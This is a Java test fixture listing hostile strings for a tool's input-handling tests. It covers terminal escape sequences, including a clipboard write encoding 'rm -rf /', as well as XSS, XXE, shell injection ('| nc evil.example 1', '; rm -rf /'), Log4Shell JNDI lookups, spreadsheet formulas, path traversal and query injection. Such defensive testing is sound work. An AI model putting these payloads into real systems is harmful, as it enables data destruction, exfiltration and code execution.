package greenwall.tests.hostile;

import java.util.ArrayList;
import java.util.List;

/// What an attacker may write into a label, a log line, a process name, a runbook or a server's response.
final class HostileTexts {
    /// Part of each text, so that a test can see whether the text arrived at all.
    static final String MARK = "gwx";

    private static final String ESC = "\u001b";

    private static final List<String> TERMINAL = List.of(
            ESC + "[31mred" + ESC + "[0m",
            ESC + "[2J" + ESC + "[H",
            ESC + "]0;owned\u0007",
            ESC + "]8;;http://evil.example/\u0007click" + ESC + "]8;;\u0007",
            ESC + "]52;c;cm0gLXJmIC8=\u0007",
            ESC + "]52;c;cm0gLXJmIC8=" + ESC + "\\",
            ESC + "P+q544e" + ESC + "\\",
            ESC + "[6n",
            ESC + "[c",
            ESC + "[201~rm -rf /\n" + ESC + "[200~",
            ESC + "[?1049h",
            ESC + "c",
            ESC + "_Gf=100;AAAA" + ESC + "\\",
            ESC + "]1337;File=:AAAA\u0007",
            "\u009b31m",
            "\u009d0;owned\u009c",
            "\u0090q\u009c",
            "\u0000",
            "a\u0000b",
            "\u0007\u0007",
            "over\b\b\b\b\b\bwritten",
            "green\rred",
            "one\ntwo: ok",
            "one\r\nSet-Cookie: a=b",
            "\u000b\u000c",
            "\u000e\u000f",
            "\u007f\u007f",
            "\u0085next",
            "\u2028line\u2029paragraph",
            "\u001f\u001e\u001d\u001c");

    private static final List<String> UNSEEN = List.of(
            "\u202egnp.exe",
            "\u202dabc\u202c",
            "\u2066a\u2067b\u2068c\u2069",
            "\u200e\u200f\u061c",
            "pass\u200bword",
            "a\u200c\u200db",
            "\ufeffbom",
            "soft\u00adhyphen",
            "\u2060\u2061\u2062\u2063\u2064",
            "\ue000private",
            "\udb80\udc00plane15",
            "\udb40\udc41\udb40\udc42tags",
            "\ufe0f\ufe00variation",
            "\u115f\u1160\u3164\uffa0",
            "\u2800blank",
            "\u034fjoiner",
            "\u180e\u180b",
            "\ud800lone",
            "lone\udc00",
            "\ufff9anno\ufffatation\ufffb",
            "\u0378unassigned");

    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "'><iframe src=javascript:alert(1)>",
            "</title><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "</text></svg><script>alert(1)</script>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<!-- --><script>alert(1)</script>",
            "&lt;script&gt;",
            "&#60;script&#62;",
            "<a href=javascript:alert(1)>x</a>",
            "[x](javascript:alert(1))",
            "[x](file:///etc/passwd)",
            "![x](http://evil.example/pixel.png)",
            "[x]: http://evil.example/ \"t\"",
            "<http://evil.example/>",
            "`` ` `` <b>",
            "```\n# heading\n```",
            "\n# heading\n\n---\n| a | b |\n|---|---|\n",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "<b>bold</b><u>x</u>",
            "\\074b\\076 \\033[31m \\n");

    private static final List<String> SHELL = List.of(
            "; rm -rf /",
            "$(touch /tmp/gwx-owned)",
            "`touch /tmp/gwx-owned`",
            "| nc evil.example 1",
            "&& reboot &",
            "> /tmp/gwx-owned",
            "'; touch /tmp/gwx-owned; '",
            "\"; touch /tmp/gwx-owned; \"",
            "$IFS$9",
            "${HOME}",
            "~root",
            "*?[a]{b,c}",
            "!!",
            "--help",
            "-rf",
            "-oProxyCommand=touch /tmp/gwx-owned",
            "--config=/etc/passwd",
            "@/etc/passwd",
            "%TEMP%&calc",
            "^& whoami");

    private static final List<String> FORMATS = List.of(
            "%s%s%s%n",
            "%1$s %99$x",
            "{0} {} {1,number}",
            "${jndi:ldap://evil.example/a}",
            "#{T(java.lang.Runtime).getRuntime()}",
            "{{ .Values }}",
            "<% out %>",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3+cmd",
            "@SUM(1+1)*cmd",
            "\t=1+1",
            "  =HYPERLINK(\"http://evil.example\")",
            "\uff1d1+1");

    private static final List<String> PATHS = List.of(
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "C:\\windows\\win.ini",
            "\\\\evil.example\\share",
            "file.txt\u0000.png",
            "CON",
            "a/../../b",
            "%2e%2e%2fetc",
            ".greenwall/../x");

    private static final List<String> ADDRESSES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "file:///etc/passwd",
            "smb://evil.example/share",
            "data:text/html,<script>alert(1)</script>",
            "http://good.example@evil.example/",
            "http://good.example\\@evil.example/",
            "http://g\u043e\u043ed.example/",
            "//evil.example/",
            "http://[::1]:22/");

    private static final List<String> QUERIES = List.of(
            "\"} or vector(1) or up{a=\"",
            "\\\"} or vector(1)",
            "'} | line_format `x",
            "` |= `x",
            ".*|.+",
            "(a+)+$",
            "x\"}) by (instance) or drop",
            "{__name__=~\".+\"}");

    private static final List<String> NUMBERS = List.of(
            "9".repeat(400),
            "NaN",
            "+Inf",
            "-0",
            "1e999999999",
            "0x7fffffffffffffff",
            "-9223372036854775809",
            "[".repeat(300),
            "{\"a\":".repeat(100),
            "&a [*a,*a,*a]",
            "!!javax.script.ScriptEngineManager []",
            "e\u0301".repeat(200));

    private HostileTexts() {}

    static List<String> all() {
        var all = new ArrayList<String>();
        for (var group : List.of(TERMINAL, UNSEEN, MARKUP, SHELL, FORMATS, PATHS, ADDRESSES, QUERIES, NUMBERS)) {
            group.forEach(text -> all.add(text + MARK));
        }
        return List.copyOf(all);
    }

    static List<String> addresses() {
        return ADDRESSES;
    }
}
